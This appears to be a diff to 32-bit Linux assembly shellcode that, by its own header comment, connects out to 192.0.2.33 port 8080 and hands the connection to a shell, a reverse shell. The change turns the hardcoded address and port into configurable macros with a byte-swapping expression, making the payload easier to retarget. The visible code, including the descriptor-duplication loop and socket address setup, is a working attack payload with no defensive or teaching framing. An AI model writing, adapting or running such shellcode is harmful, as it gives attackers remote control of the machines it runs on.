@@ -1,5 +1,9 @@
 ; Linux, 32 bit: connects to 192.0.2.33 port 8080 and hands the connection to a shell.
 bits 32
+%ifndef PORT
+%define PORT 8080
+%define ADDRESS 0x210200c0     ; 192.0.2.33
+%endif
         xor ebx, ebx
         mul ebx
         push ebx
@@ -16,8 +20,8 @@ again:  mov al, 63
         int 80h
         dec ecx
         jns again
-        push dword 0x210200c0   ; 192.0.2.33
-        push word 0x901f        ; 8080
+        push dword ADDRESS
+        push word ((PORT & 255) << 8) | (PORT >> 8)
         push word 2
         mov ecx, esp
         push byte 16
